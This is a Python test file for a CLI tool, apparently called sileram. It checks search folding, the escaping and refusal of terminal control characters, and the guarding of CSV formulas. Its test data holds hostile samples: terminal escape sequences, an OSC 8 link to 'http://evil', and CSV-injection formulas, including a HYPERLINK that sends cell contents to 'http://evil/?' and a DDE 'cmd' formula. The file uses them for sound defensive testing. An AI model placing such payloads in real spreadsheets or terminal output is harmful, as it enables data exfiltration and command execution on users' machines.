#!/usr/bin/env python3
"""What is stored is what is shown, and shown safely: search words fold as the index folds them,
no control character from stored text reaches the terminal, and no CSV cell starts a formula.
Usage: python3 test_text_safety.py PATH/TO/sileram"""
import csv
import io
import json
import os

import harness
from harness import EXAMPLE_BY, SileramTestCase

# Clear the screen, set the window title (OSC 0 … BEL), and a C1 CSI that turns text red.
HOSTILE_TITLE = "Factuur \x1b[2J\x1b]0;pwned\x07 onleesbaar \u009b31m rood"
FORBIDDEN = ("\x1b", "\x07", "\u009b")
# Twelve bytes, then euros of three bytes each: byte 2,000 falls inside a euro sign.
CROSSING_CUT = "Quokkazebra " + "€" * 700
FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
            "@SUM(A1)", "'=already guarded", "''+twice"]


def ids(rows):
    return [row["id"] for row in rows]


class Search(SileramTestCase):
    def test_list_search_folds_as_the_index_does(self):
        sid = int(self.submit("Straße naar het depot is afgesloten"))
        for words in ("Straße", "straße", "STRAẞE", "Straße afgesloten"):
            with self.subTest(words):
                self.assertEqual(ids(self.fx.js("list", "--search", words)), [sid])
        # The index keeps ß: "strasse" is another word, as it is to SQLite's tokenizer.
        self.assertEqual(self.fx.js("list", "--search", "strasse"), [])

    def test_accents_fold_both_ways(self):
        sid = int(self.submit("Naïef café, crème brûlée"))
        for words in ("naief cafe", "NAÏEF", "creme brulee", "CRÈME Brûlée", "cafe\u0301"):
            with self.subTest(words):
                self.assertEqual(ids(self.fx.js("list", "--search", words)), [sid])

    def test_submit_hints_at_a_signal_whose_title_holds_sharp_s(self):
        first = int(self.submit("Weißwurst Straße"))
        created = self.fx.js("submit", "Weißwurst Straße", "--by", "b@example.org")
        self.assertEqual([s["id"] for s in created["similar"]], [first])
        out = self.ok("submit", "Weißwurst Straße", "--by", "c@example.org")
        self.assertIn(f"{first}  submitted", out)

    def test_submit_hints_at_a_description_cut_inside_a_character(self):
        # Titles of stop words only: the description's word alone makes the resemblance (a
        # title word of either that the other lacks would count against it).
        first = int(self.submit("Dat is het", EXAMPLE_BY, "-d", CROSSING_CUT))
        created = self.fx.js("submit", "Het is niet zo", "--by", "b@example.org", "-d", CROSSING_CUT)
        self.assertEqual([s["id"] for s in created["similar"]], [first])
        self.assertEqual(created["similar"][0]["score"], 1.0)


class ControlCharacters(SileramTestCase):
    def test_stored_control_characters_never_reach_the_terminal(self):
        sid = self.walk("analysed")
        # An older database, or another writer
        self.fx.execute("UPDATE signals SET title = ?, description = ? WHERE id = ?",
                        (HOSTILE_TITLE,
                         "regel 1\r\nregel 2\x1b]8;;http://evil\x1b\\klik\x1b]8;;\x1b\\", sid))
        for args in (["list"], ["show", sid], ["report", "impact"]):
            with self.subTest(args):
                out = self.ok(*args, env_extra={"COLUMNS": "200"})
                for byte in FORBIDDEN:
                    self.assertNotIn(byte, out)
                self.assertIn("\\x1b", out)
        shown = self.ok("show", sid, env_extra={"COLUMNS": "200"})
        self.assertIn("Factuur \\x1b[2J\\x1b]0;pwned\\x07 onleesbaar \\u009b31m rood", shown)
        # JSON keeps the stored text exactly.
        self.assertEqual(self.show(sid)["title"], HOSTILE_TITLE)
        data = json.loads(self.ok("show", sid, "--json"))
        self.assertTrue(data["description"].startswith("regel 1\r\nregel 2\x1b]8;;"))

    def test_control_characters_are_refused_at_input(self):
        sid = self.submit()
        cases = [
            (["submit", "Factuur \x1b[2J", "--by", EXAMPLE_BY], ["the title", "\\x1b"]),
            (["submit", "bel\x07", "--by", EXAMPLE_BY], ["the title", "\\x07"]),
            (["submit", "c1 \u009b31m", "--by", EXAMPLE_BY], ["the title", "\\u009b"]),
            (["submit", "tab\tin title", "--by", EXAMPLE_BY], ["the title", "\\x09"]),
            (["submit", "t", "--by", EXAMPLE_BY, "-d", "ok\nbut \x1b[31m"], ["description"]),
            (["submit", "t", "--by", EXAMPLE_BY, "--channel", "x\x1b"], ["channel"]),
            (["submit", "t", "--by", EXAMPLE_BY, "--field", "note=\x7f"], ["note"]),
            (["triage", sid, "--reject", "nee\x1b]0;x\x07"], ["reason"]),
            (["customer", "set", "Acme\x1b[2J", "--revenue", "10"], ["customer name"]),
            (["--as", "piet\x1b", "triage", sid, "--accept"], ["actor"]),
        ]
        for args, needles in cases:
            with self.subTest(args):
                err = self.assert_refused(2, args, *needles)
                for byte in FORBIDDEN:
                    self.assertNotIn(byte, err)

    def test_line_breaks_and_tabs_stay_allowed_where_text_has_lines(self):
        sid = self.submit("t", EXAMPLE_BY, "-d", "regel 1\r\n\tregel 2")
        self.assertEqual(self.show(sid)["description"], "regel 1\r\n\tregel 2")

    def test_import_names_row_and_column(self):
        self.submit()
        path = os.path.join(self.tmp, "in.csv")
        with open(path, "w", encoding="utf-8", newline="") as f:
            f.write("title,submitted_by,channel\r\ngoed,a@example.org,mail\r\n"
                    "goed,a@example.org,mail\x1b[2J\r\n")
        self.assert_refused(2, ["submit", "--from", path], "row 3, column channel", "\\x1b")
        with open(path, "w", encoding="utf-8", newline="") as f:
            f.write("name,revenue,segment\r\nAcme,10,b2b\r\nBeta,5,b2b\x07\r\n")
        self.assert_refused(2, ["customer", "import", path], "row 3", "segment", "\\x07")


class CsvFormulas(SileramTestCase):
    def rows(self, *args):
        return list(csv.reader(io.StringIO(self.ok(*args), newline="")))

    def test_every_csv_output_guards_formulas_and_keeps_numbers(self):
        sids = []
        for i, text in enumerate(FORMULAS):
            sids.append(self.submit(text, EXAMPLE_BY, "--channel", text, "--customer", text))
            self.ok("customer", "set", text, "--revenue", str(10 + i), "--segment", text)
        self.advance(sids[0], "analysed")
        guarded = {text: ("'" + text) for text in FORMULAS}

        listed = self.rows("list", "--csv")
        header = listed[0]
        titles = [row[header.index("title")] for row in listed[1:]]
        self.assertEqual(sorted(titles), sorted(guarded.values()))

        exported = self.rows("export", "--csv")
        header = exported[0]
        for row in exported[1:]:
            self.assertIn(row[header.index("title")], guarded.values())
            self.assertIn(row[header.index("channel")], guarded.values())
            self.assertTrue(row[header.index("id")].isdigit())

        customers = self.rows("customer", "list", "--csv")
        self.assertEqual(sorted(row[0] for row in customers[1:]), sorted(guarded.values()))
        self.assertEqual(sorted(row[2] for row in customers[1:]), sorted(guarded.values()))
        self.assertEqual(sorted(row[1] for row in customers[1:]),
                         sorted(f"{10 + i}.00" for i in range(len(FORMULAS))))

        report = self.rows("report", "impact", "--csv")
        cells = [cell for row in report[1:] for cell in row]
        self.assertIn(guarded[FORMULAS[0]], cells)
        for cell in cells:
            self.assertFalse(cell[:1] in ("=", "+", "@", "\t"), cell)
        # JSON stays exact.
        self.assertEqual(sorted(s["title"] for s in self.fx.js("list")), sorted(FORMULAS))

    def test_negative_numbers_stay_numbers(self):
        sid = self.walk("implemented")
        # More contacts and a lower score than before: the changes are negative figures.
        self.ok("measure", sid, "--contacts", "999999", "--satisfaction", "6.0")
        exported = self.rows("export", "--csv")
        header = exported[0]
        row = exported[1]
        for column in ("satisfaction_delta", "contacts_saved", "saved_per_year"):
            value = row[header.index(column)]
            self.assertTrue(value.startswith("-"), f"{column}: {value}")
            float(value)
        for cell in row:
            self.assertFalse(cell.startswith("'"), cell)

    def titles_and_descriptions(self):
        lines = self.ok("export").splitlines()
        return sorted((s["title"], s["description"]) for s in map(json.loads, lines))

    def test_export_reads_back_unchanged(self):
        for text in FORMULAS:
            self.submit(text, EXAMPLE_BY, "-d", text)
        path = os.path.join(self.tmp, "export.csv")
        with open(path, "w", encoding="utf-8", newline="") as f:
            f.write(self.ok("export", "--csv"))
        before = self.titles_and_descriptions()
        self.fx.db = os.path.join(self.tmp, "copy.db")
        self.ok("submit", "--from", path, "--map", "submitted_by=submitted_by")
        after = self.titles_and_descriptions()
        self.assertEqual(after, before)


if __name__ == "__main__":
    harness.main()
